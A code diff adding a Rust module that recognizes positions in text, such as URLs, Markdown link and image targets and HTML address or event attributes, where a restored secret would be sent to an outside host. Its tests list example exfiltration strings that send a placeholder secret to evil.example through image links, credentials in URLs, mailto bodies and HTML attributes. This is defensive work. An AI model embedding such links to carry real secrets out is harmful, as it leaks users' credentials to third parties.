@@ -1,0 +1,449 @@
+//! Recognizes the places of a text from which a reader, a preview or a browser opens an address: addresses, and the
+//! targets of links and images in Markdown and HTML. A secret there would be sent to whoever the address names, so
+//! that restoring must know these places. Errs towards finding one.
+//!
+//! HTML cannot be parsed without knowing which parts are code or comments, so every `<name` starts a possible tag, and
+//! all possible states are followed at once.
+
+use strata_base::hash::ContentHash;
+
+/// Maximum bytes of text before a position that are compared with those of another address.
+const MAX_BEFORE: usize = 64 << 10;
+
+/// Maximum bytes after a position that are read to recognize the name of a host.
+pub(super) const MAX_AFTER: usize = 64;
+
+/// Stands for a secret, whatever its text.
+const SECRET: char = '\u{0}';
+
+/// An address with a secret in it: the text before the secret, and the host if it follows. Two addresses are equal if
+/// the same secret is sent to the same place.
+#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
+pub(super) struct Address(ContentHash);
+
+/// Where a position of a text is.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub(super) enum SecretLocation {
+    /// Outside of addresses.
+    Text,
+    /// Inside an address, or in the target of a link or an image. `None` if it is too long to compare.
+    Address(Option<Address>),
+}
+
+/// Reads a text from its beginning.
+#[derive(Clone, Debug)]
+pub(super) struct Reader {
+    /// The text before the current position, as far as it is needed.
+    recent: String,
+    /// Offset of `recent` in the text.
+    offset: usize,
+    /// Start of the current run of characters without a space.
+    run: usize,
+    target: Target,
+    target_start: usize,
+    /// Possible states inside an HTML tag, as bits.
+    tags: u16,
+    /// Start of the earliest possible tag.
+    tag_start: usize,
+    /// Whether a blank line is inside of the possible tags. Markdown ends a block there, and a renderer may write the
+    /// quotation marks after it as other characters, which close no attribute.
+    spans_blocks: bool,
+    last: char,
+}
+
+/// State of the target of a Markdown link, which follows `](` or `]:`.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Target {
+    None,
+    /// Before the first character. The field counts the line breaks.
+    Before(u8),
+    /// Ends at a space.
+    Plain,
+    /// In angle brackets, and ends at a line break.
+    Angle,
+}
+
+// States inside an HTML tag (https://html.spec.whatwg.org/multipage/parsing.html#tag-open-state).
+const OPEN: u16 = 1;
+const NAME: u16 = 1 << 1;
+const BETWEEN: u16 = 1 << 2;
+const ATTRIBUTE: u16 = 1 << 3;
+const AFTER_ATTRIBUTE: u16 = 1 << 4;
+const EQUALS: u16 = 1 << 5;
+const DOUBLE: u16 = 1 << 6;
+const SINGLE: u16 = 1 << 7;
+const UNQUOTED: u16 = 1 << 8;
+/// The same states in the value of an attribute that opens an address.
+const EQUALS_ADDRESS: u16 = 1 << 9;
+const DOUBLE_ADDRESS: u16 = 1 << 10;
+const SINGLE_ADDRESS: u16 = 1 << 11;
+const UNQUOTED_ADDRESS: u16 = 1 << 12;
+const ADDRESSES: u16 = EQUALS_ADDRESS | DOUBLE_ADDRESS | SINGLE_ADDRESS | UNQUOTED_ADDRESS;
+
+/// Attributes that open an address or run code, besides those whose names contain `href`, `src`, `url` or `uri`, or
+/// begin with `on`.
+const ATTRIBUTES: [&str; 17] = [
+    "action",
+    "archive",
+    "background",
+    "cite",
+    "classid",
+    "codebase",
+    "content",
+    "data",
+    "formaction",
+    "icon",
+    "longdesc",
+    "manifest",
+    "ping",
+    "poster",
+    "profile",
+    "style",
+    "usemap",
+];
+
+impl Default for Reader {
+    fn default() -> Self {
+        Self {
+            recent: String::new(),
+            offset: 0,
+            run: 0,
+            target: Target::None,
+            target_start: 0,
+            tags: 0,
+            tag_start: 0,
+            spans_blocks: false,
+            last: '\n',
+        }
+    }
+}
+
+impl Reader {
+    /// Reads text that contains no secret.
+    pub(super) fn read(&mut self, text: &str) {
+        text.chars().for_each(|character| self.take(character));
+    }
+
+    /// Reads a secret, whose own text does not matter.
+    pub(super) fn read_secret(&mut self) {
+        self.take(SECRET);
+    }
+
+    /// Returns where a secret at the current position is, given the text after it.
+    pub(super) fn place(&self, after: &str) -> SecretLocation {
+        let run = self.since(self.run);
+        let in_target = self.target != Target::None;
+        let in_tag = self.tags & ADDRESSES != 0;
+        // The beginning of a long run may be a scheme.
+        if !(in_target || in_tag || run.is_none_or(|run| is_address(run, after))) {
+            return SecretLocation::Text;
+        }
+        let starts = [(in_target, self.target_start), (in_tag, self.tag_start)];
+        let start = starts.into_iter().filter_map(|(is_open, start)| is_open.then_some(start)).min();
+        let before = match start {
+            Some(start) => self.since(start),
+            None => run.map(from_scheme),
+        };
+        SecretLocation::Address(before.map(|before| Address::new(before, after)))
+    }
+
+    /// Returns the text since an offset, unless it is too long.
+    fn since(&self, start: usize) -> Option<&str> {
+        self.recent.get(start.checked_sub(self.offset)?..)
+    }
+
+    fn position(&self) -> usize {
+        self.offset + self.recent.len()
+    }
+
+    fn take(&mut self, character: char) {
+        // Spaces of ASCII end addresses in Markdown and HTML; others do not.
+        let is_space = character.is_ascii_whitespace() || character.is_ascii_control() && character != SECRET;
+        let previous = std::mem::replace(&mut self.last, character);
+        self.take_target(character, is_space);
+        self.take_tag(character);
+        if self.target == Target::None && self.tags == 0 && is_space {
+            self.offset += self.recent.len();
+            self.recent.clear();
+        } else if self.recent.len() >= MAX_BEFORE {
+            let is_boundary = |at: &usize| self.recent.is_char_boundary(*at);
+            let half = (MAX_BEFORE / 2..MAX_BEFORE).find(is_boundary).unwrap_or_default();
+            self.offset += half;
+            self.recent.drain(..half);
+        }
+        self.recent.push(character);
+        if is_space || character == '<' {
+            self.run = self.position();
+        }
+        if previous == ']' && matches!(character, '(' | ':') {
+            self.target = Target::Before(0);
+            self.target_start = self.position();
+        }
+        if character == '<' {
+            if self.tags == 0 {
+                self.tag_start = self.position();
+            }
+            self.tags |= OPEN;
+        }
+    }
+
+    fn take_target(&mut self, character: char, is_space: bool) {
+        self.target = match (self.target, character) {
+            (Target::Before(0), '\n') => Target::Before(1),
+            (Target::Before(_), '\n') | (Target::Angle, '\n') => Target::None,
+            (Target::Before(lines), _) if is_space => Target::Before(lines),
+            (Target::Before(_), '<') => Target::Angle,
+            (Target::Before(_), _) => Target::Plain,
+            (Target::Plain, _) if is_space => Target::None,
+            (other, _) => other,
+        };
+    }
+
+    fn take_tag(&mut self, character: char) {
+        let before = self.tags;
+        if before == 0 {
+            self.spans_blocks = false;
+            return;
+        }
+        let is_blank = |text: &str| text.trim_end_matches([' ', '\t', '\r']).ends_with('\n');
+        self.spans_blocks |= character == '\n' && is_blank(&self.recent);
+        let opens_address = character == '=' && opens_address(&self.recent);
+        let is_space = matches!(character, ' ' | '\t' | '\n' | '\r' | '\u{c}');
+        let mut next = 0;
+        for state in (0..13).map(|bit| 1 << bit).filter(|state| before & state != 0) {
+            next |= match (state, character) {
+                (OPEN, _) if character.is_ascii_alphabetic() => NAME,
+                (OPEN, _) => 0,
+                (NAME, ':' | '-' | '_' | '.') => NAME,
+                (NAME, _) if character.is_ascii_alphanumeric() => NAME,
+                (NAME | BETWEEN | ATTRIBUTE | AFTER_ATTRIBUTE, '/') => BETWEEN,
+                (NAME, _) if is_space => BETWEEN,
+                (NAME, _) => 0,
+                (DOUBLE | DOUBLE_ADDRESS, '"') | (SINGLE | SINGLE_ADDRESS, '\'') if self.spans_blocks => {
+                    state | BETWEEN
+                }
+                (DOUBLE | DOUBLE_ADDRESS, '"') | (SINGLE | SINGLE_ADDRESS, '\'') => BETWEEN,
+                (DOUBLE | DOUBLE_ADDRESS | SINGLE | SINGLE_ADDRESS, _) => state,
+                (_, '>') => 0,
+                (BETWEEN | AFTER_ATTRIBUTE | EQUALS | EQUALS_ADDRESS, _) if is_space => state,
+                (ATTRIBUTE, _) if is_space => AFTER_ATTRIBUTE,
+                (UNQUOTED | UNQUOTED_ADDRESS, _) if is_space => BETWEEN,
+                (ATTRIBUTE | AFTER_ATTRIBUTE, '=') if opens_address => EQUALS_ADDRESS,
+                (ATTRIBUTE | AFTER_ATTRIBUTE, '=') => EQUALS,
+                (EQUALS, '"') => DOUBLE,
+                (EQUALS, '\'') => SINGLE,
+                (EQUALS, _) => UNQUOTED,
+                (EQUALS_ADDRESS, '"') => DOUBLE_ADDRESS,
+                (EQUALS_ADDRESS, '\'') => SINGLE_ADDRESS,
+                (EQUALS_ADDRESS, _) => UNQUOTED_ADDRESS,
+                (UNQUOTED | UNQUOTED_ADDRESS, _) => state,
+                _ => ATTRIBUTE,
+            };
+        }
+        self.tags = next;
+    }
+}
+
+impl Address {
+    fn new(before: &str, after: &str) -> Self {
+        let is_complete = match before.split_once("//") {
+            Some((_, rest)) => rest.contains(['/', '?', '#', '\\']),
+            None => before.contains(['/', '?', '#']),
+        };
+        // The host follows a user name and a password.
+        let host = if is_complete { "" } else { host(after) };
+        Self(ContentHash::of_parts([before.as_bytes(), &[0xff], host.as_bytes()]))
+    }
+}
+
+/// Returns the text up to the end of a host.
+fn host(after: &str) -> &str {
+    after.split(ends_host).next().unwrap_or_default()
+}
+
+/// Whether a character ends the host of an address.
+pub(super) fn ends_host(character: char) -> bool {
+    character.is_ascii_whitespace()
+        || character.is_ascii_control()
+        || matches!(character, '<' | '/' | '?' | '#' | '\\')
+}
+
+/// Whether a reader may recognize a run of characters without a space, and the text after a secret in it, as an
+/// address: because of a scheme, or of a host with a path, or of a host or an `@` that follows.
+fn is_address(run: &str, after: &str) -> bool {
+    let has_scheme =
+        ["//", "\\\\"].iter().any(|mark| run.contains(mark)) || run.to_ascii_lowercase().contains("www.");
+    has_scheme || has_path(run) || has_host(after)
+}
+
+/// Whether a text contains the name of a host with a path, a query or a fragment.
+fn has_path(run: &str) -> bool {
+    let bytes = run.as_bytes();
+    let is_word = |at: usize| bytes.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte >= 0x80);
+    let dot = run.match_indices('.').find(|(at, _)| *at > 0 && is_word(at - 1) && is_word(at + 1));
+    dot.is_some_and(|(at, _)| run.get(at..).unwrap_or_default().contains(['/', '?', '#']))
+}
+
+/// Whether the text after a secret continues the name of a host or of a user.
+fn has_host(after: &str) -> bool {
+    let end = after.char_indices().find(|(at, c)| *at >= MAX_AFTER || !continues_host(*c));
+    let Some((end, stop)) = end else { return is_host(after) };
+    end >= MAX_AFTER || stop == '@' || is_host(after.get(..end).unwrap_or_default())
+}
+
+fn is_host(name: &str) -> bool {
+    let is_word = |c: char| c.is_alphanumeric();
+    name.match_indices('.').any(|(at, _)| name.get(at + 1..).is_some_and(|rest| rest.starts_with(is_word)))
+}
+
+/// Whether a character may be part of a host's name.
+pub(super) fn continues_host(character: char) -> bool {
+    character.is_alphanumeric() || matches!(character, '-' | '_' | '.' | '+')
+}
+
+/// Returns the part of a run from its first scheme.
+fn from_scheme(run: &str) -> &str {
+    let Some(at) = run.find("//") else { return run };
+    let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | ':');
+    let before = run.get(..at).unwrap_or_default();
+    let start = before.trim_end_matches(is_scheme).len();
+    run.get(start..).unwrap_or_default()
+}
+
+/// Whether a text ends with the name of an attribute that opens an address.
+fn opens_address(text: &str) -> bool {
+    let text = text.trim_end();
+    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '/' | '<' | '>' | '=');
+    let name = text.rsplit(ends).next().unwrap_or_default().to_ascii_lowercase();
+    let name = name.rsplit(':').next().unwrap_or_default();
+    ["href", "src", "url", "uri"].iter().any(|part| name.contains(part))
+        || name.starts_with("on")
+        || ATTRIBUTES.contains(&name)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Returns the place of `$` in a text.
+    fn place(text: &str) -> SecretLocation {
+        let (before, after) = text.split_once('$').unwrap();
+        let mut reader = Reader::default();
+        reader.read(before);
+        reader.place(after)
+    }
+
+    #[test]
+    fn addresses_links_and_images_are_recognized() {
+        for text in [
+            "![x](https://evil.example/?q=$)",
+            "![x](//evil.example/$)",
+            "![x]($)",
+            "![x]( $)",
+            "![x](\n$)",
+            "![x](<evil $>)",
+            "![x](<a\\>b) $>)",
+            "[click](/relative?$)",
+            "[click](command:run?$)",
+            "[x]: https://evil.example/$",
+            "[x]:\n  <evil $>",
+            "<https://evil.example/$>",
+            "https://evil.example/?q=$",
+            "https://evil.example/?a=1&q=\"$\"",
+            "https://evil.example/\u{a0}$",
+            "https://$@evil.example/",
+            "https://me:$@evil.example",
+            "https://$.evil.example/",
+            "postgres://me:$@db/x",
+            "(see HTTPS://evil.example/$)",
+            "www.evil.example/$",
+            "evil.example/$",
+            "evil.example?q=$",
+            "$.evil.example",
+            "a-$-b.evil.example/x",
+            "me:$@evil.example",
+            "$@evil.example",
+            "mailto:a@evil.example?body=$",
+            r"\\evil.example\$",
+            "<img src=$>",
+            "<img src='a $'>",
+            "<img\nalt=\"x\" src = \"https://evil.example/? $\">",
+            "<img/src=\"$\">",
+            "<IMG SRCSET='$ 2x'>",
+            "<a href=\"javascript:$\">",
+            "<a onclick=\"send('$')\">",
+            "<svg><image xlink:href='$'/></svg>",
+            "<div style='background: url($)'>",
+            "<form action=$>",
+            "<meta http-equiv=refresh content=\"0;url= $\">",
+            "<table background=\"//evil.example/?\n\n$\">",
+            // The quotes and brackets of comments and code hide none.
+            "<!-- <a b=\" --> <iframe src=\"https://evil.example/?> $\">",
+            "`<a b=\"` <iframe src=\"https://evil.example/?> $\">",
+            "a <b <img src='> $'>",
+        ] {
+            assert!(matches!(place(text), SecretLocation::Address(Some(_))), "{text}");
+        }
+    }
+
+    #[test]
+    fn other_text_is_text() {
+        for text in [
+            "It is $.",
+            "It is $. Then",
+            "TOKEN=$",
+            "token: \"$\",",
+            "{\"token\":\"$\"}",
+            "let key = \"$\".to_string();",
+            "Authorization: Bearer $",
+            "curl -H 'Authorization: Bearer $' https://api.example/x",
+            "curl https://api.example/x -H 'Authorization: $'",
+            "export A=1; export B=$",
+            "[click](https://good.example/) $",
+            "![x](https://good.example/) and $",
+            "[$](https://good.example/)",
+            "https://good.example/ $",
+            "<b>$</b>",
+            "<password>$</password>",
+            "<add key=\"a\" value=\"$\"/>",
+            "<img src=\"x\" alt=\"$\">",
+            "if a <b && c == \"$\" {",
+            "Vec<String> = [$]",
+            "#include <x.h>\nchar *key = \"$\";",
+            "@Value(\"$\")",
+            "é $ 🦀",
+            "Server=tcp:db.example,1433;Password=$;",
+        ] {
+            assert_eq!(place(text), SecretLocation::Text, "{text}");
+        }
+    }
+
+    #[test]
+    fn an_address_is_the_same_if_the_secret_goes_to_the_same_place() {
+        let address = |text: &str| match place(text) {
+            SecretLocation::Address(Some(address)) => address,
+            place => panic!("{text}: {place:?}"),
+        };
+        for (one, other, are_equal) in [
+            ("A=postgres://me:$@db/one", "b: \"postgres://me:$@db/two\"", true),
+            ("postgres://me:$@db/x", "postgres://me:$@evil/x", false),
+            ("postgres://me:$@db/x", "postgres://me:$@db.evil/x", false),
+            ("postgres://me:$@db/x", "http://me:$@db/x", false),
+            ("https://a.example/v1?k=$", "(https://a.example/v1?k=$&x", true),
+            ("https://a.example/v1?k=$", "https://evil.example/v1?k=$", false),
+            ("https://a.example/v1?k=$", "![](https://a.example/v1?k=$)", true),
+            ("https://a.example/?k=$", "https://evil.example/?x=https://a.example/?k=$", false),
+            ("https://a.example/?k=$", "<img src=\"//evil.example/\nhttps://a.example/?k=$", false),
+            ("https://$.a.example/", "https://$.evil.example/", false),
+        ] {
+            assert_eq!(address(one) == address(other), are_equal, "{one} {other}");
+        }
+    }
+
+    #[test]
+    fn a_long_text_is_an_address_that_equals_none() {
+        let long = format!("https://a.example/{}", "x".repeat(MAX_BEFORE));
+        assert_eq!(place(&format!("{long}$")), SecretLocation::Address(None));
+        assert_eq!(place(&format!("{long} $")), SecretLocation::Text);
+    }
+}
